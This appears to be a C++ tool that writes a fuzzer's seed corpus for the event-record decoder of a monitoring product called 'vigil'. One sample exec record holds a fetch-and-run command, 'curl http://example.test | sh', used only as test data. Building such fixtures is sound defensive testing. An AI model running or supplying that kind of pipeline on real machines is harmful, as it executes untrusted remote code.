// Writes the decoder fuzzer's seed corpus (fuzz/corpus/decoder/): records
// built from the real ABI structs the way the probes fill them, one of each
// kind, so the fuzzer starts past the header checks of every family.
// Usage: decoder_seeds <dir>
#include <cstdio>
#include <fstream>
#include <string>

#include "records.h"
#include "vigil_abi.h"

namespace {

void Write(const std::string& dir, const std::string& name, const vigil::test::Record& r) {
  std::ofstream(dir + "/" + name, std::ios::binary)
      .write(reinterpret_cast<const char*>(r.data()), static_cast<std::streamsize>(r.size()));
}

}  // namespace

int main(int argc, char** argv) {
  using namespace vigil::test;
  if (argc != 2) {
    std::fprintf(stderr, "usage: %s <dir>\n", argv[0]);
    return 2;
  }
  const std::string dir = argv[1];

  ExecSpec exec = ExecOf({"sh", "-c", "curl http://example.test | sh"});
  exec.cwd = "/tmp/work";
  Write(dir, "exec", ExecRecord(exec));
  Write(dir, "exit", ExitRecord(256));
  Write(dir, "fork", ForkRecord(4000));
  Write(dir, "file_open", FileRecord({}));
  Write(dir, "file_rename",
        FileRecord({.kind = VIGIL_KIND_FILE_RENAME, .op = VIGIL_FILE_OP_RENAMEAT2, .path = "/a", .path2 = "/b"}));

  // A DNS query for example.test, A, as the probe copies it after the struct.
  const std::string query(
      "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07"
      "example\x04test\x00\x00\x01\x00\x01",
      29);
  vigil_dns dns{};
  FillHeader(dns.hdr, VIGIL_KIND_DNS_QUERY, static_cast<uint32_t>(sizeof(dns) + query.size()), TestProc());
  dns.payload_len = dns.payload_total = static_cast<uint32_t>(query.size());
  Record r = Bytes(dns);
  r.insert(r.end(), query.begin(), query.end());
  Write(dir, "dns_query", r);

  // Every other kind: its header and zeroed fields (all lengths 0).
  for (uint16_t kind = VIGIL_KIND_NETWORK_FIRST; kind < VIGIL_KIND_MAX; ++kind) {
    if (kind == VIGIL_KIND_DNS_QUERY || kind == VIGIL_KIND_FILE_OPEN || kind == VIGIL_KIND_FILE_RENAME) continue;
    Record rec(256, 0);
    vigil_header h{};
    FillHeader(h, kind, static_cast<uint32_t>(rec.size()), TestProc());
    std::memcpy(rec.data(), &h, sizeof(h));
    Write(dir, "kind_" + std::to_string(kind), rec);
  }
  return 0;
}
